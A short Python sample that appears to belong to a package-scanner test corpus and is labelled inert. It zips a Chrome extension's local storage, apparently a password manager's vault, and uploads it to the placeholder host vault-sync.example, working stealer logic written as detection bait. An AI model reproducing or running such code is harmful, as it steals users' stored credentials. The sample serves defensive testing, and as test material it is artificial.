# pkgguard corpus 580 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import tempfile
import urllib.request

ext = os.path.join(
    os.environ.get("LOCALAPPDATA", ""),
    "Google", "Chrome", "User Data", "Default", "Local Extension Settings",
    "hdokiejnpimakedhajhdlcegeplioahd",
)
if os.path.isdir(ext):
    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "lp"), "zip", ext)
    with open(archive, "rb") as fh:
        urllib.request.urlopen("https://vault-sync.example/x", data=fh.read(), timeout=10)
